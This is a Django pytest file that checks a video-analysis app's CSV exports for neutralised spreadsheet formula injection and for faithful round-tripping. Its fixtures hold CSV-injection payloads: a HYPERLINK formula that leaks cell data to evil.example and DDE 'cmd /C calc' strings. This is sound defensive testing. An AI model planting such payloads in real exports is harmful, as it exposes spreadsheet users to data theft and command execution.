"""Every CSV export is safe to open in a spreadsheet: one writer, formulas neutralised
(issue 13). A user-chosen video name or label such as ``=HYPERLINK(...)`` must reach the file
as text, and a Vigil export must read back as it was written."""
from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from inference.csvsafe import FORMULA_PREFIXES
from tests.webapp.conftest import LONGER_CLIP, REPO_ROOT, SHORT_CLIP

pytestmark = pytest.mark.django_db

HOSTILE_LABEL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_NAME = "=cmd|' /C calc'!A0.mp4"
HOSTILE_GROUP = "@SUM(1+1)*cmd|' /C calc'!A0"


def _runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_PREFIXES) and not re.fullmatch(r"[+-]?[\d.]+", cell)


def _clip(dataset, source: Path, *, label: str, split: str, name: str, group: str):
    from webapp.datasets.models import ClipOrigin, DatasetClip

    relative = f"datasets/{dataset.pk}/{source.stem}.mp4"
    target = Path(settings.MEDIA_ROOT) / relative
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy(source, target)
    return DatasetClip.objects.create(dataset=dataset, label=label, split=split, file=relative,
                                      group=group, origin=ClipOrigin.FEEDBACK, sha256="0" * 64,
                                      original_name=name, duration_sec=5.0)


def test_dataset_export_manifest_neutralises_formulas_and_reads_back(staff_user) -> None:
    from webapp.datasets import services

    dataset = services.dataset_create(name="hostile", created_by=staff_user)
    _clip(dataset, SHORT_CLIP, label=HOSTILE_LABEL, split="train", name=HOSTILE_NAME,
          group=HOSTILE_GROUP)
    _clip(dataset, LONGER_CLIP, label="-calm", split="val", name="+plain.mp4", group="g2")
    client = Client()
    client.force_login(staff_user)
    response = client.get(reverse("api:dataset-export", args=[dataset.pk]))
    assert response.status_code == 200
    archive = b"".join(response.streaming_content) if response.streaming else response.content
    with zipfile.ZipFile(io.BytesIO(archive)) as zf:
        manifest = zf.read("manifest.csv").decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(manifest)))
    assert len(rows) == 2
    for row in rows:
        for cell in row.values():
            assert not _runs_as_formula(cell), f"{cell!r} would run as a formula"
    by_split = {row["split"]: row for row in rows}
    assert by_split["train"]["label"] == "'" + HOSTILE_LABEL
    assert by_split["train"]["source"] == "'" + HOSTILE_NAME
    assert by_split["train"]["group"] == "'" + HOSTILE_GROUP
    assert by_split["val"]["label"] == "'-calm"

    # The manifest import reads Vigil's export back with the labels it was written with.
    again = services.dataset_create(name="round-trip", created_by=staff_user)
    clips = services.dataset_import_manifest_zip(
        dataset=again, upload=SimpleUploadedFile("export.zip", archive))
    assert sorted(c.label for c in clips) == sorted([HOSTILE_LABEL, "-calm"])


def test_segments_csv_neutralises_formulas_in_labels(owned, user) -> None:
    from webapp.videos.models import Segment

    _, analysis = owned
    Segment.objects.filter(analysis=analysis).update(
        top_label=HOSTILE_LABEL, top=[["+evil", 0.9], ["abseiling", 0.1]])
    client = Client()
    client.force_login(user)
    response = client.get(reverse("videos:analysis_segments_csv", args=[analysis.pk]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][3] == "'" + HOSTILE_LABEL
    assert rows[1][-1] == "'+evil=0.9000; abseiling=0.1000"
    assert all(not _runs_as_formula(cell) for row in rows for cell in row)


def test_every_csv_export_goes_through_the_one_writer() -> None:
    """A new export with its own ``csv.writer`` would skip the neutralising: there is one."""
    offenders = []
    for folder in ("inference", "training", "webapp", "scripts", "bench"):
        for path in sorted((REPO_ROOT / folder).rglob("*.py")):
            text = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\(", text) and \
                    path != REPO_ROOT / "inference" / "csvsafe.py":
                offenders.append(str(path.relative_to(REPO_ROOT)))
    assert offenders == []
